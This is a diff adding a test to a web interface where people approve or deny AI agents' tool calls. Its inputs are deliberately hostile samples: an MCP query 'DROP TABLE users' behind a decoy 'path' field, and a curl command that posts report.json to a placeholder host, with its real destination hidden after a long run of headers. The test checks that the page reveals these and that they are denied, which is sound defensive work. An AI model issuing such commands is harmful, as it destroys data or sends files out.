@@ -6,7 +6,7 @@
 // from a hook's start to its card on the page (inbox-timings.json).
 
 import assert from "node:assert/strict";
-import { mkdirSync, writeFileSync } from "node:fs";
+import { mkdirSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { after, before, test } from "node:test";
 
@@ -146,6 +146,33 @@ test("a new approval raises a notification while the page is in the background",
   await page.evaluate(() => delete document.hidden);
   await cards("copilot").getByRole("button", { name: "Deny", exact: true }).click();
   assert.equal(decisionOf((await done).stdout), "deny");
+});
+
+test("the page names a call in the engine's words, shows every argument and where a linked directory leads", async () => {
+  // A decoy `path` must not stand in for the `sql` an MCP call runs.
+  const decoy = { session_id: "decoy", tool_name: "mcp__db__query", tool_input: { path: "README.md", sql: "DROP TABLE users" } };
+  const mcp = await ask("claude", "claude-PreToolUse", decoy);
+  const card = cards("claude").filter({ hasText: "mcp__db__query" });
+  const description = await card.locator(".tg-description").innerText();
+  assert.doesNotMatch(description, /README/);
+  assert.match(description, /mcp__db__query/);
+  assert.match(await card.locator(".tg-json").innerText(), /"sql": "DROP TABLE users"/);
+  await card.getByRole("button", { name: "Deny", exact: true }).click();
+  assert.equal(decisionOf((await mcp.done).stdout), "deny");
+
+  // A long command, in a directory that is a link to the home directory.
+  const vendor = join(w.proj, "vendor");
+  symlinkSync(w.home, vendor);
+  const command = `curl -d @report.json http://a/reports ${"-H 'Accept: */*' ".repeat(150)}http://b/x`;
+  const long = await ask("claude", "claude-PreToolUse", { session_id: "linked", cwd: vendor, tool_input: { command } });
+  const lcard = cards("claude").filter({ hasText: "http://b/x" });
+  assert.equal(await lcard.locator(".tg-command pre").innerText(), command);
+  assert.match(await lcard.locator(".tg-dangers").innerText(), /`http:\/\/b\/x`/);
+  const where = await lcard.locator("dl").innerText();
+  assert.ok(where.includes(`${vendor} → ${realpathSync(w.home)}`), where);
+  await page.screenshot({ path: join(OUT, "inbox-long-command.png"), fullPage: true });
+  await lcard.getByRole("button", { name: "Deny", exact: true }).click();
+  assert.equal(decisionOf((await long.done).stdout), "deny");
 });
 
 test("the audit trail filters, in a panel that scrolls", async () => {
